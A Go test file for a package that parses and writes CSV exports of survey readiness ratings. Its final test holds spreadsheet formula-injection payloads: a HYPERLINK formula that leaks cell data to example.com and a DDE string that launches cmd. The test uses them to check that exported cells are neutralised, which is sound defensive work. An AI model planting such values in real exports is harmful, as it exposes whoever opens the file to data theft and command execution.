package readiness

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"strings"
	"testing"

	"github.com/partnerkit/partnerkit/partnership"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func readFixture(t testing.TB, name string) []byte {
	t.Helper()
	data, err := os.ReadFile("testdata/" + name)
	require.NoError(t, err)
	return data
}

func TestReadCSVGoogleForms(t *testing.T) {
	data := readFixture(t, "google-forms.csv")
	require.True(t, bytes.HasPrefix(data, []byte("\ufeff")), "the fixture starts with a byte-order mark")
	require.Contains(t, string(data), "\r\n", "the fixture uses CRLF")

	rs, err := ReadCSV(bytes.NewReader(data), ODST())
	require.NoError(t, err)
	require.Len(t, rs, 10)
	ben := rs[1]
	assert.Equal(t, "Ben Okafor", ben.Rater, "the name column wins over the e-mail column")
	assert.Equal(t, "District leadership team", ben.Team)
	assert.Equal(t, "3/2/2027 9:40:51", ben.Submitted)
	assert.Equal(t, map[string]int{"alignment": 3, "resources": 2, "metrics": 2, "communication": 3}, ben.Ratings)
	assert.Equal(t, "Principal planning time is already taken by two district initiatives.\nWho covers release time?", ben.Concerns["resources"],
		"a quoted answer keeps its line break")
	assert.Equal(t, `We need a way to resolve conflicts, "fast".`, rs[2].Concerns["communication"])
	kiran := rs[4]
	assert.NotContains(t, kiran.Ratings, "resources", "an empty cell is unrated")
	assert.Nil(t, kiran.Concerns)

	rep, err := Summarize(ODST(), rs)
	require.NoError(t, err)
	require.Len(t, rep.Teams, 2)
	assert.Equal(t, 5, rep.Teams[0].Raters)
	assert.Equal(t, 5, rep.Teams[1].Raters)
}

func TestReadCSVMicrosoftForms(t *testing.T) {
	rs, err := ReadCSV(bytes.NewReader(readFixture(t, "microsoft-forms.csv")), ODST())
	require.NoError(t, err)
	require.Len(t, rs, 5)
	assert.Equal(t, "Maria Rivera", rs[0].Rater, `"Name" wins over "Email" (which says anonymous)`)
	assert.Equal(t, "3/2/27 9:14:05", rs[0].Submitted, "completion time is when it was submitted")
	assert.Equal(t, "jtan@riverside.example.org", rs[3].Rater, "an empty name falls back to the e-mail")
	assert.Equal(t, "District", rs[0].Team)
	assert.Equal(t, "Line one\nline two", rs[1].Concerns["resources"])
	assert.Equal(t, map[string]int{"alignment": 4, "metrics": 3, "communication": 3}, rs[4].Ratings)
}

func TestReadCSVBadCells(t *testing.T) {
	_, err := ReadCSV(bytes.NewReader(readFixture(t, "bad-cells.csv")), ODST())
	var ve *partnership.ValidationError
	require.True(t, errors.As(err, &ve), "got %v", err)
	require.Len(t, ve.Problems, 3, "%v", err)
	p := ve.Problems[0]
	assert.Equal(t, 2, p.Row)
	assert.Equal(t, "E", p.Column)
	assert.Equal(t, "Alignment of Strategic Priority and Objectives — rating (1-4)", p.Header)
	assert.Equal(t, "5 – Above the scale", p.Value)
	assert.Contains(t, p.Message, "1, 2, 3, 4")
	assert.Equal(t, 3, ve.Problems[1].Row)
	assert.Contains(t, ve.Problems[1].Message, `"N/A"`)
	assert.Equal(t, 4, ve.Problems[2].Row, "a two-line answer is one spreadsheet row")
	assert.Contains(t, ve.Problems[2].Message, `"3.5"`)
	assert.Contains(t, err.Error(), `row 3, column G ("Appropriate and Sufficient Resources — rating (1-4)"): "N/A" is not a rating`)
}

// all is the header of the four ODST areas, for files that rate them all.
const all = "Alignment,Resources,Metrics,Communication"

func TestReadCSVCases(t *testing.T) {
	tests := []struct {
		name, csv string
		want      []Response
		problems  []string // Problem strings, each the start of one
	}{
		{
			name: "email only, organization, label and dash forms",
			csv:  "Email,Organization," + all + "\na@x.org,District,Agreement on most items,4—all,2 - some,1: none\n",
			want: []Response{{Rater: "a@x.org", Team: "District", Ratings: map[string]int{"alignment": 3, "metrics": 2, "resources": 4, "communication": 1}}},
		},
		{
			name: "ragged row, blank row skipped, concerns by their header",
			csv:  "Name,Team," + all + ",Concerns about metrics\nAna,D,1,2\n,,\nBen,D,,,,3,Too many\n",
			want: []Response{
				{Rater: "Ana", Team: "D", Ratings: map[string]int{"alignment": 1, "resources": 2}},
				{Rater: "Ben", Team: "D", Ratings: map[string]int{"communication": 3}, Concerns: map[string]string{"metrics": "Too many"}},
			},
		},
		{
			name: "team member name is the rater, team name the team",
			csv:  "Team name,Team member name," + all + "\nDistrict,Ana,3,3,3,3\n",
			want: []Response{{Rater: "Ana", Team: "District", Ratings: map[string]int{"alignment": 3, "metrics": 3, "resources": 3, "communication": 3}}},
		},
		{
			name: "semicolons, as spreadsheets in some locales save",
			csv:  "Name;Team;Alignment;Resources;Metrics;Metrics concerns;Communication\nAna;District;1;1;2;\"Data, late\";4\n",
			want: []Response{{Rater: "Ana", Team: "District", Ratings: map[string]int{"alignment": 1, "metrics": 2, "resources": 1, "communication": 4},
				Concerns: map[string]string{"metrics": "Data, late"}}},
		},
		{
			name: "given and family name are joined",
			csv:  "First name,Last name,Team," + all + "\nAna,Ruiz,D,1,2,3,4\n",
			want: []Response{{Rater: "Ana Ruiz", Team: "D", Ratings: map[string]int{"alignment": 1, "resources": 2, "metrics": 3, "communication": 4}}},
		},
		{
			name:     "no usable columns",
			csv:      "Timestamp,Favourite colour\n1,red\n",
			problems: []string{"No column says who rated", "No column says which team", `No column holds the ratings of "Alignment`, `No column holds the ratings of "Appropriate`, `No column holds the ratings of "Clear`, `No column holds the ratings of "Ongoing`},
		},
		{
			name:     "an area's column of text is read as concerns, and the area has no ratings",
			csv:      "Name,Team,Alignment,Resources,Metrics,Communication\nA,T,N/A,1,1,1\nB,T,fine,1,1,1\n",
			problems: []string{`No column holds the ratings of "Alignment of strategic priority and objectives". Rename the question so that it names the area ("Alignment of strategic priority and objectives", or "alignment"), or choose the column that holds its ratings; if the survey did not ask about it, say to leave it unrated. Column C ("Alignment") is read as its concerns: its header names the area only, and its cells hold text, not ratings; if it holds ratings, choose "Rating" for it`},
		},
		{
			name:     "duplicate rating column",
			csv:      "Name,Team," + all + ",Clear metrics established\nA,T,1,1,1,1,2\nB,T,1,1,1,1,2\n",
			problems: []string{`Columns E ("Metrics") and G ("Clear metrics established") could each give the rating of "Clear metrics established"`},
		},
		{
			name:     "empty rater and team",
			csv:      "Name,Team," + all + "\nA,T,2,2,2,2\n,,2,2,2,2\n",
			problems: []string{`row 3, column A ("Name"): The rater's name is empty`, `row 3, column B ("Team"): The team is empty`},
		},
		{
			name:     "ranges and decimals are not one level",
			csv:      "Name,Team,Alignment rating,Resources rating,Metrics,Communication\nA,T,3-4,2.5,1,1\n",
			problems: []string{`row 2, column C ("Alignment rating"): "3-4" is not a rating`, `row 2, column D ("Resources rating"): "2.5" is not a rating`},
		},
		{
			name:     "broken quotes",
			csv:      "Name,Team,Metrics\nA,T,\"2\nB,T,3\n",
			problems: []string{`row 2: The file is not valid CSV`},
		},
		{
			name:     "empty file",
			csv:      "",
			problems: []string{"The file is empty"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs, err := ReadCSV(strings.NewReader(tt.csv), ODST())
			if tt.problems == nil {
				require.NoError(t, err)
				assert.Equal(t, tt.want, rs)
				return
			}
			var ve *partnership.ValidationError
			require.True(t, errors.As(err, &ve), "got %v", err)
			require.Len(t, ve.Problems, len(tt.problems), "%v", err)
			for i, p := range tt.problems {
				assert.True(t, strings.HasPrefix(ve.Problems[i].String(), p), "%q does not start with %q", ve.Problems[i].String(), p)
			}
		})
	}
}

func TestReadCSVCustomRubric(t *testing.T) {
	rb, err := DecodeRubric(strings.NewReader(`{"id":"c","title":"C","scale":{"levels":[{"value":0,"descriptor":"none"},{"value":1,"descriptor":"some"},{"value":2,"descriptor":"all"}]},
		"categories":[{"id":"staff-concerns","title":"Staff concerns heard"},{"id":"money","title":"Budget"}]}`))
	require.NoError(t, err)
	rs, err := ReadCSV(strings.NewReader("Name,Team,Staff concerns heard - rating,Comments: Staff concerns heard,Budget\nA,T,0,Not yet,all\n"), rb)
	require.NoError(t, err)
	assert.Equal(t, []Response{{Rater: "A", Team: "T", Ratings: map[string]int{"staff-concerns": 0, "money": 2},
		Concerns: map[string]string{"staff-concerns": "Not yet"}}}, rs)
}

func TestWriteCSVRoundTrip(t *testing.T) {
	rs, err := ReadCSV(bytes.NewReader(readFixture(t, "google-forms.csv")), ODST())
	require.NoError(t, err)
	var buf bytes.Buffer
	require.NoError(t, Round{Responses: rs}.WriteCSV(&buf))
	back, err := ReadCSV(&buf, ODST())
	require.NoError(t, err)
	assert.Equal(t, rs, back)
}

// A name, team or concern that a spreadsheet would run as a formula is
// written so that it opens as text, and reads back as typed.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	rb := ODST()
	rs := []Response{
		{Rater: `=HYPERLINK("http://example.com/?d="&A2,"Open")`, Team: "@SUM(A1:A9)", Submitted: "-1+1",
			Ratings: map[string]int{"metrics": 2}, Concerns: map[string]string{"metrics": "+cmd|' /C calc'!A0", "alignment": "\t=1"}},
		{Rater: "'=already quoted", Team: "District", Ratings: map[string]int{"alignment": 3},
			Concerns: map[string]string{"alignment": "-- a dash list"}},
	}
	var buf bytes.Buffer
	require.NoError(t, Round{Rubric: &rb, Responses: rs}.WriteCSV(&buf))
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	require.NoError(t, err)
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r\n", cell[:1], "row %d column %d starts as a formula: %q", i+1, j+1, cell)
			}
		}
	}
	back, err := ReadCSV(&buf, rb)
	require.NoError(t, err)
	rs[0].Concerns["alignment"] = "=1" // ReadCSV trims the spaces around a text
	assert.Equal(t, rs, back)
}
